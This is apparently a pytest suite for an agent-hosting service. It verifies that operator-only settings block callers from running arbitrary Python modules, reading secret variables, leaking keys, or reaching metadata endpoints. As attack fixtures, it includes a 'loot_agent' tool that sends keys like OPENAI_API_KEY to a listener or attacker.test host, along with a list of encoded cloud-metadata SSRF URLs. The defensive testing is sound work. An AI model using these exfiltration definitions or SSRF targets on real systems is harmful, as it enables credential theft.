"""The trust boundary (DESIGN.md §12, operator capabilities): what code runs in the
workers, which environment variables are secrets, where requests may go and whether the
scripted model exists are the operator's settings, never a caller's.

Each test is an attack first: a caller's definition that, without the rule, runs code,
reads a variable or reaches an address the operator did not grant.
"""

from __future__ import annotations

import asyncio
import logging
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any
from uuid import uuid4

import httpx
import pytest
from sqlalchemy.ext.asyncio import AsyncEngine

from app.domain.agent import OpenAIModel, ToolSpec
from app.domain.principal import Scope
from app.main import create_app
from app.providers.base import ModelError, ModelRequest
from app.providers.registry import build_model
from app.settings import Settings
from app.tools.base import ToolContext
from app.tools.http_tool import HttpTools
from tests.agents import agent, calls, http_tool, python_tool
from tests.conftest import make_settings, started_client, wait_status
from tests.crash.harness import tool_server
from tests.fake_http import http_server
from tests.integration.test_auth import bearer, make_key

CONTEXT = ToolContext("call_trust", "s-trust", uuid4(), 1)


@asynccontextmanager
async def service(
    database_url: str, *, workers: int = 2, **overrides: Any
) -> AsyncIterator[httpx.AsyncClient]:
    """The API (and a pool of `workers`) under settings of the test's choosing."""
    settings = make_settings(database_url, **overrides)
    app = create_app(settings, pool_concurrency=workers, open_when_keyless=True)
    async for client in started_client(app):
        yield client


def problem(response: httpx.Response) -> dict[str, Any]:
    assert response.status_code == 422, response.text
    body: dict[str, Any] = response.json()
    assert body["code"] == "VALIDATION_FAILED", body
    return body


def tool_results(items: list[dict[str, Any]]) -> list[tuple[str, str, Any]]:
    return [(m["name"], m["status"], m["content"]) for m in items if m["role"] == "tool"]


# -- 1. python tools: only the modules the operator lists --------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "app.tools.demo_evil:add",  # a prefix is whole module names, not a string prefix
        "os:system",
        "subprocess:run",
        "testsx.tools:add",
    ],
)
async def test_python_tool__a_module_outside_the_allowed_prefixes_is_422_naming_the_field(
    api: httpx.AsyncClient, path: str
) -> None:
    tools = [
        python_tool("fine", "add"),
        {"name": "evil", "executor": {"type": "python", "path": path}},
    ]
    body = problem(await api.post("/v1/agents", json=agent("py-evil", [{"text": "x"}], tools)))
    assert body["errors"][0]["loc"] == ["body", "tools", "1", "executor", "path"]
    assert path in body["detail"]
    assert "PERDURE_PYTHON_TOOLS" in body["detail"]


async def test_python_tool__the_default_allows_only_the_demo_tools(database_url: str) -> None:
    async with service(database_url, workers=0, python_tools="app.tools.demo") as client:
        demo = {"name": "add", "executor": {"type": "python", "path": "app.tools.demo:add"}}
        created = await client.post("/v1/agents", json=agent("demo", [{"text": "x"}], [demo]))
        assert created.status_code == 201, created.text
        refused = await client.post(
            "/v1/agents", json=agent("ours", [{"text": "x"}], [python_tool("add", "add")])
        )
        assert problem(refused)["errors"][0]["loc"] == ["body", "tools", "0", "executor", "path"]


async def test_python_tool__a_definition_stored_before_a_tightening_is_refused_by_the_worker(
    api: httpx.AsyncClient, database_url: str
) -> None:
    body = agent(
        "py-old", [calls(("echo", {"k": "v"})), {"text": "done"}], [python_tool("echo", "echo")]
    )
    assert (await api.post("/v1/agents", json=body)).status_code == 201
    sent = await api.post("/v1/sessions/py-old-1/runs", json={"agent_id": "py-old", "input": "go"})
    run_id = sent.json()["id"]
    async with service(database_url, python_tools="app.tools.demo") as tight:
        run = await wait_status(tight, run_id, {"finished", "failed"})
        items = (await tight.get("/v1/sessions/py-old-1/messages")).json()["items"]
    assert run["status"] == "finished", run  # the run goes on: the model hears the refusal
    [(name, status, content)] = tool_results(items)
    assert (name, status, content["error"]) == ("echo", "error", "tool_not_permitted")
    assert "echo" not in content  # the function never ran


# -- 2. secrets: only the variables the operator lists, and no existence oracle ------------


def detail_without(body: dict[str, Any], name: str) -> str:
    return str(body["detail"]).replace(name, "NAME")


async def test_secret_env__a_refused_variable_gets_the_same_422_as_a_missing_one(
    api: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DATABASE_URL", "postgresql://app:hunter2@db/prod")
    monkeypatch.setenv("PERDURE_SOMETHING_API_KEY", "set")
    monkeypatch.setenv("HOME_SWEET_HOME", "set")  # set, but not in PERDURE_SECRET_ENV
    monkeypatch.delenv("NOWHERE_TO_BE_FOUND_API_KEY", raising=False)
    details = set()
    for name in (
        "DATABASE_URL",
        "PERDURE_SOMETHING_API_KEY",
        "HOME_SWEET_HOME",
        "NOWHERE_TO_BE_FOUND_API_KEY",
    ):
        model = {
            "provider": "openai",
            "name": "gpt-x",
            "base_url": "http://127.0.0.1:9/v1",
            "api_key_env": name,
        }
        body = problem(await api.post("/v1/agents", json={"id": "k", "model": model}))
        assert body["errors"][0]["loc"] == ["body", "model", "api_key_env"]
        assert name in body["detail"]
        details.add(detail_without(body, name))
    assert len(details) == 1, details  # a 422 says nothing about what exists


async def test_secret_env__header_variables_follow_the_same_rule(
    api: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PGPASSWORD", "hunter2")
    tool = http_tool("t", "http://127.0.0.1:9/t", headers={"Authorization": {"env": "PGPASSWORD"}})
    body = problem(await api.post("/v1/agents", json=agent("h", [{"text": "x"}], [tool])))
    assert body["errors"][0]["loc"] == [
        "body",
        "tools",
        "0",
        "executor",
        "headers",
        "Authorization",
    ]


async def test_secret_env__the_worker_never_reads_a_refused_header_variable(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # A definition stored before a tightening: the worker checks again at call time.
    monkeypatch.setenv("DB_PASSWORD", "hunter2")
    with tool_server() as tools:
        spec = ToolSpec.model_validate(
            {
                "name": "t",
                "executor": {
                    "type": "http",
                    "url": tools.url,
                    "headers": {"X-Pass": {"env": "DB_PASSWORD"}},
                },
            }
        )
        async with httpx.AsyncClient() as client:
            outcome = await HttpTools(client).execute(spec, {}, CONTEXT)
    assert tools.calls == []
    assert not outcome.ok
    assert "hunter2" not in str(outcome.result)
    assert "DB_PASSWORD" in outcome.result["message"]


async def test_secret_env__a_model_never_sends_a_refused_variable(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("DB_PASSWORD", "hunter2")
    with http_server({"/v1/chat/completions": (500, b"{}", 0)}) as (base, seen):
        # Stored as it could have been before PERDURE_SECRET_ENV existed.
        model = {
            "provider": "openai",
            "name": "gpt-x",
            "base_url": f"{base}/v1",
            "api_key_env": "DB_PASSWORD",
        }
        spec = OpenAIModel.model_validate(model)
        request = ModelRequest("s", uuid4(), [{"role": "user", "content": "hi"}], [], 0, 0)
        async with httpx.AsyncClient() as client:
            with pytest.raises(ModelError) as raised:
                await build_model(spec, client).generate(request)
    assert raised.value.code == "api_key_missing"
    assert not raised.value.retryable
    assert seen == []
    assert "hunter2" not in raised.value.message


# -- 2b. secrets bound to destinations: a key goes only where the operator says -----------

DEFAULT_SECRET_ENV = Settings.model_fields["secret_env"].default


def loot_agent(agent_id: str, url: str, env: str) -> dict[str, Any]:
    """A caller's agent whose one tool sends the variable `env` to the caller's own URL."""
    tool = http_tool("t", url, headers={"X-Loot": {"env": env}})
    return agent(agent_id, [calls(("t", {})), {"text": "done"}], [tool])


async def test_secret_env__by_default_no_definition_can_send_the_operators_key_to_its_url(
    database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The exfiltration the old default (`*_API_KEY`, egress anywhere) allowed: any key
    with agents:write names the operator's vendor key in a header to its own listener, or
    as a model's key with its own `base_url`. The answer is the 422 an unset variable
    gets: nothing tells the caller the key exists, or where it may go."""
    monkeypatch.setenv("OPENAI_API_KEY", "sk-operator-openai")
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-operator-anthropic")
    monkeypatch.delenv("NOWHERE_TO_BE_FOUND_API_KEY", raising=False)
    listener = "http://127.0.0.1:9/loot"
    async with service(database_url, workers=0, secret_env=DEFAULT_SECRET_ENV) as client:
        details = set()
        for name in ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "NOWHERE_TO_BE_FOUND_API_KEY"):
            body = problem(await client.post("/v1/agents", json=loot_agent("l", listener, name)))
            assert body["errors"][0]["loc"] == [
                "body",
                "tools",
                "0",
                "executor",
                "headers",
                "X-Loot",
            ]
            details.add(body["errors"][0]["msg"].replace(name, "NAME"))
            for provider in ("openai", "anthropic"):
                model = {
                    "provider": provider,
                    "name": "x",
                    "base_url": "https://attacker.test/v1",
                    "api_key_env": name,
                }
                body = problem(await client.post("/v1/agents", json={"id": "m", "model": model}))
                assert body["errors"][0]["loc"] == ["body", "model", "api_key_env"]
                details.add(body["errors"][0]["msg"].replace(name, "NAME"))
        # Where it is bound, it still may go.
        vendor = {"provider": "openai", "name": "gpt-x", "api_key_env": "OPENAI_API_KEY"}
        created = await client.post("/v1/agents", json={"id": "v", "model": vendor})
        assert created.status_code == 201, created.text
    assert len(details) == 1, details


async def test_secret_env__a_definition_stored_under_the_old_default_cannot_send_it_either(
    api: httpx.AsyncClient, database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Stored while `*_API_KEY` sent any key anywhere: the worker checks the binding at
    each call, on the URL it is about to request."""
    monkeypatch.setenv("OPENAI_API_KEY", "sk-operator-openai")
    with http_server({"/loot": (200, b"{}", 0)}) as (base, seen):
        async with service(database_url, workers=0, secret_env="*_API_KEY") as loose:
            body = loot_agent("old", f"{base}/loot", "OPENAI_API_KEY")
            assert (await loose.post("/v1/agents", json=body)).status_code == 201
            sent = await loose.post(
                "/v1/sessions/old-1/runs", json={"agent_id": "old", "input": "x"}
            )
        async with service(database_url, secret_env=DEFAULT_SECRET_ENV) as tight:
            run = await wait_status(tight, sent.json()["id"], {"finished", "failed"})
            items = (await tight.get("/v1/sessions/old-1/messages")).json()["items"]
    assert seen == [], "the listener must receive nothing"
    assert run["status"] == "finished", run  # the run goes on: the model hears the refusal
    [(_, status, content)] = tool_results(items)
    assert (status, content["error"]) == ("error", "configuration")
    assert "sk-operator" not in str(items)


async def test_secret_env__a_tenant_placeholder_keeps_each_tenants_variables_its_own(
    database_url: str, engine: AsyncEngine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TENANT_ACME_TOOL_API_KEY", "acme-secret")
    monkeypatch.setenv("TENANT_GLOBEX_TOOL_API_KEY", "globex-secret")
    monkeypatch.delenv("TENANT_GLOBEX_NOPE_API_KEY", raising=False)
    scopes = {Scope.AGENTS_WRITE, Scope.RUNS_WRITE, Scope.RUNS_READ}
    keys = {tenant: await make_key(engine, scopes, tenant=tenant) for tenant in ("acme", "globex")}
    settings = make_settings(database_url, secret_env="TENANT_{tenant}_*_API_KEY@127.0.0.1:*")
    with http_server({"/t": (200, b"{}", 0)}) as (base, seen):
        app = create_app(settings, pool_concurrency=2, open_when_keyless=False)
        async for client in started_client(app):
            as_globex = bearer(keys["globex"])
            details = set()
            for name in ("TENANT_ACME_TOOL_API_KEY", "TENANT_GLOBEX_NOPE_API_KEY"):
                body = loot_agent("l", f"{base}/t", name)
                refused = problem(await client.post("/v1/agents", json=body, headers=as_globex))
                assert refused["errors"][0]["loc"][-1] == "X-Loot"
                details.add(detail_without(refused, name))
            assert len(details) == 1, details  # acme's variable reads as unset to globex
            for tenant in ("acme", "globex"):
                auth = bearer(keys[tenant])
                body = loot_agent("l", f"{base}/t", f"TENANT_{tenant.upper()}_TOOL_API_KEY")
                created = await client.post("/v1/agents", json=body, headers=auth)
                assert created.status_code == 201, created.text
                sent = await client.post(
                    "/v1/sessions/s/runs", json={"agent_id": "l", "input": "x"}, headers=auth
                )
                for _ in range(200):
                    run = (await client.get(f"/v1/runs/{sent.json()['id']}", headers=auth)).json()
                    if run["status"] in {"finished", "failed"}:
                        break
                    await asyncio.sleep(0.05)
                assert run["status"] == "finished", run
    assert sorted(s["headers"]["X-Loot"] for s in seen) == ["acme-secret", "globex-secret"]


async def test_secret_env__a_model_reads_its_runs_tenants_variable_in_the_worker(
    database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tests.fake_http import fake_server
    from tests.providers.fake_servers import OPENAI_PATH, openai_reply

    monkeypatch.setenv("TENANT_DEFAULT_LLM_API_KEY", "sk-default-tenant")
    with fake_server(OPENAI_PATH) as server:
        server.push(openai_reply("hello"))
        grant = "TENANT_{tenant}_*_API_KEY@127.0.0.1:*"
        async with service(database_url, secret_env=grant) as client:  # open: `default`
            model = {
                "provider": "openai",
                "name": "gpt-x",
                "base_url": f"{server.url}/v1",
                "api_key_env": "TENANT_DEFAULT_LLM_API_KEY",
            }
            created = await client.post("/v1/agents", json={"id": "m", "model": model})
            assert created.status_code == 201, created.text
            sent = await client.post("/v1/sessions/m-1/runs", json={"agent_id": "m", "input": "x"})
            run = await wait_status(client, sent.json()["id"], {"finished", "failed"})
    assert run["status"] == "finished", run
    assert [r.headers["authorization"] for r in server.requests] == ["Bearer sk-default-tenant"]


async def test_secret_env__an_unbound_grant_is_warned_of_at_start(
    database_url: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, logger="perdure")
    grants = "LOOT_API_KEY,OPENAI_API_KEY@api.openai.com"
    async with service(database_url, workers=0, secret_env=grants):
        pass
    warned = [r.getMessage() for r in caplog.records if "unbound secret grant" in r.getMessage()]
    assert len(warned) == 1, warned
    assert "LOOT_API_KEY" in warned[0]
    assert "any definition can send it anywhere egress allows" in warned[0]


@pytest.mark.parametrize("name", ["database_url", "Database_URL", "perdure_secret_env"])
async def test_secret_env__the_never_readable_names_are_never_readable_in_any_case(
    database_url: str, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    """pydantic-settings reads `database_url` as DATABASE_URL: the never-list must too."""
    monkeypatch.setenv(name, "postgresql://app:hunter2@db/prod")
    async with service(database_url, workers=0, secret_env="*") as client:
        model = {
            "provider": "openai",
            "name": "gpt-x",
            "base_url": "http://127.0.0.1:9/v1",
            "api_key_env": name,
        }
        body = problem(await client.post("/v1/agents", json={"id": "k", "model": model}))
    assert body["errors"][0]["loc"] == ["body", "model", "api_key_env"]


# -- 3. egress: where http tools and models may connect ----------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254/latest/meta-data/iam/",
        "http://[fd00:ec2::254]/latest/",
        "http://[fe80::1]/",
        "http://[::ffff:169.254.169.254]/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://METADATA.google.internal./x",
        "http://2852039166/",  # 169.254.169.254 as one decimal number
        "http://168.63.129.16/machine?comp=goalstate",  # Azure WireServer
        "http://[fd00:ec2::253]/",  # AWS's fd00:ec2::/32
        "http://[64:ff9b:1::a9fe:a9fe]/",  # local-use NAT64 to 169.254.169.254
    ],
)
async def test_egress__a_metadata_address_is_422_at_definition_time(
    api: httpx.AsyncClient, url: str
) -> None:
    body = problem(
        await api.post("/v1/agents", json=agent("m", [{"text": "x"}], [http_tool("t", url)]))
    )
    assert body["errors"][0]["loc"] == ["body", "tools", "0", "executor", "url"]
    model = {"provider": "openai", "name": "gpt-x", "base_url": url}
    body = problem(await api.post("/v1/agents", json={"id": "m2", "model": model}))
    assert body["errors"][0]["loc"] == ["body", "model", "base_url"]


@pytest.mark.parametrize("url", ["https://xn--/v1", "https://a.xn--zz/v1"])
async def test_egress__a_host_that_does_not_decode_is_checked_as_sent_not_a_500(
    api: httpx.AsyncClient, url: str
) -> None:
    """httpx decodes `xn--` labels for `.host` (and raises on a malformed one), but sends
    and connects to the encoded name: the rules read that one."""
    tool = http_tool("t", url, headers={"X-Key": {"env": "TEST_NOPE_API_KEY"}})
    response = await api.post("/v1/agents", json=agent("x", [{"text": "x"}], [tool]))
    assert problem(response)["errors"][0]["loc"][-1] == "X-Key"
    model = {"provider": "openai", "name": "gpt-x", "base_url": url}
    assert (await api.post("/v1/agents", json={"id": "m", "model": model})).status_code == 201


async def test_egress__an_allow_list_without_loopback_refuses_at_connect_time(
    database_url: str,
) -> None:
    with tool_server() as tools:
        port = tools.url.split(":")[2].split("/")[0]
        # A name, not a literal: accepted at definition time, refused once resolved.
        tool = http_tool("t", f"http://localhost:{port}/tool")
        async with service(database_url, egress="10.0.0.0/8") as client:
            defined = await client.post(
                "/v1/agents", json=agent("e", [calls(("t", {})), {"text": "done"}], [tool])
            )
            assert defined.status_code == 201, defined.text
            sent = await client.post(
                "/v1/sessions/e-1/runs", params={"wait": 15}, json={"agent_id": "e", "input": "x"}
            )
            run = await wait_status(client, sent.json()["id"], {"finished", "failed"})
            items = (await client.get("/v1/sessions/e-1/messages")).json()["items"]
            literal = http_tool("t", f"http://127.0.0.1:{port}/tool")
            refused = await client.post("/v1/agents", json=agent("e2", [{"text": "x"}], [literal]))
    assert tools.calls == [], "the tool server must receive nothing"
    assert run["status"] == "finished", run
    [(_, status, content)] = tool_results(items)
    assert (status, content["error"]) == ("error", "egress_refused")
    assert "PERDURE_EGRESS" in content["message"]
    assert problem(refused)["errors"][0]["loc"] == ["body", "tools", "0", "executor", "url"]


async def test_egress__loopback_is_allowed_by_default(live: httpx.AsyncClient) -> None:
    with tool_server() as tools:
        tool = http_tool("t", tools.url)
        body = agent("lo", [calls(("t", {"label": "a"})), {"text": "done"}], [tool])
        assert (await live.post("/v1/agents", json=body)).status_code == 201
        sent = await live.post(
            "/v1/sessions/lo-1/runs", params={"wait": 15}, json={"agent_id": "lo", "input": "x"}
        )
        run = await wait_status(live, sent.json()["id"], {"finished", "failed"})
    assert run["status"] == "finished"
    assert len(tools.calls) == 1


# -- 4. the scripted model: a caller's way to call any tool with any arguments --------------


async def test_scripted_model__is_422_unless_the_operator_enables_it(database_url: str) -> None:
    async with service(database_url, workers=0, scripted_model=False) as client:
        body = problem(await client.post("/v1/agents", json=agent("s", [{"text": "x"}], [])))
    assert body["errors"][0]["loc"] == ["body", "model", "provider"]
    assert "PERDURE_SCRIPTED_MODEL" in body["detail"]


async def test_scripted_model__a_definition_stored_before_disabling_fails_in_the_worker(
    api: httpx.AsyncClient, database_url: str
) -> None:
    assert (await api.post("/v1/agents", json=agent("s", [{"text": "x"}], []))).status_code == 201
    sent = await api.post("/v1/sessions/s-1/runs", json={"agent_id": "s", "input": "go"})
    async with service(database_url, scripted_model=False) as strict:
        run = await wait_status(strict, sent.json()["id"], {"finished", "failed"})
    assert run["status"] == "failed", run
    assert run["last_error"]["code"] == "provider_not_enabled"


# -- 5. what a read shows, and what drift covers -----------------------------------------


async def test_agent_read__literal_secret_header_values_are_redacted(
    api: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TEST_UPSTREAM_API_KEY", "from-env")
    headers = {
        "Authorization": "Bearer sk-literal-1",
        "Cookie": "session=literal-2",
        "X-Api-Key": "literal-3",
        "X-Auth-Token": "literal-4",
        "X-Client-Secret": "literal-5",
        "X-Team": "payments",
        "X-Upstream-Key": {"env": "TEST_UPSTREAM_API_KEY"},
    }
    tool = http_tool("t", "http://127.0.0.1:9/t", headers=headers)
    created = await api.post("/v1/agents", json=agent("r", [{"text": "x"}], [tool]))
    assert created.status_code == 201, created.text
    read = await api.get("/v1/agents/r")
    for response in (created, read):
        assert "literal-" not in response.text
        shown = response.json()["tools"][0]["executor"]["headers"]
        assert shown == {
            "Authorization": "***",
            "Cookie": "***",
            "X-Api-Key": "***",
            "X-Auth-Token": "***",
            "X-Client-Secret": "***",
            "X-Team": "payments",
            "X-Upstream-Key": {"env": "TEST_UPSTREAM_API_KEY"},
        }
    # Sending a read back as is would store the placeholder: refused, not a broken tool.
    server_owned = ("id", "version", "fingerprint", "created_at")
    again = {k: v for k, v in read.json().items() if k not in server_owned}
    body = problem(await api.put("/v1/agents/r", json=again))
    redacted = ("Authorization", "Cookie", "X-Api-Key", "X-Auth-Token", "X-Client-Secret")
    assert sorted(e["loc"][-1] for e in body["errors"]) == sorted(redacted)
    assert {tuple(e["loc"][:-1]) for e in body["errors"]} == {
        ("body", "tools", "0", "executor", "headers")
    }


@pytest.mark.parametrize(
    "change",
    [
        {"executor": {"type": "python", "path": "tests.tools:add"}},
        {"needs_approval": True},
    ],
    ids=["executor-path", "needs-approval"],
)
async def test_drift__a_changed_executor_or_approval_rule_is_drift(
    live: httpx.AsyncClient, change: dict[str, Any]
) -> None:
    v1 = agent("d", [{"text": "one"}, {"text": "two"}], [python_tool("t", "echo")])
    assert (await live.post("/v1/agents", json=v1)).status_code == 201
    sent = await live.post(
        "/v1/sessions/ds/runs", params={"wait": 15}, json={"agent_id": "d", "input": "x"}
    )
    await wait_status(live, sent.json()["id"], {"finished"})
    v2 = {k: v for k, v in v1.items() if k != "id"}
    v2["tools"] = [{**python_tool("t", "echo"), **change}]
    assert (await live.put("/v1/agents/d", json=v2)).status_code == 200
    refused = await live.post(
        "/v1/sessions/ds/runs", json={"input": "y", "agent_version": "latest", "on_drift": "error"}
    )
    assert (refused.status_code, refused.json().get("code")) == (409, "AGENT_DRIFT")
    assert refused.json()["changes"] == {"tools_changed": ["t"]}


# -- 6. containment: a python tool cannot stop its worker, and has a timeout ----------------


async def test_python_tool__a_sync_tool_that_overruns_its_timeout_is_a_timeout_result(
    live: httpx.AsyncClient,
) -> None:
    slow = {
        "name": "slow",
        "executor": {"type": "python", "path": "tests.tools:sleep_sync", "timeout_s": 0.3},
    }
    body = agent("slow", [calls(("slow", {"seconds": 5})), {"text": "done"}], [slow])
    assert (await live.post("/v1/agents", json=body)).status_code == 201, body
    sent = await live.post(
        "/v1/sessions/slow-1/runs", params={"wait": 4}, json={"agent_id": "slow", "input": "x"}
    )
    run = sent.json()
    assert run["status"] == "finished", run  # well before the 5 s the function sleeps
    items = (await live.get("/v1/sessions/slow-1/messages")).json()["items"]
    [(_, status, content)] = tool_results(items)
    assert (status, content["error"]) == ("error", "timeout")
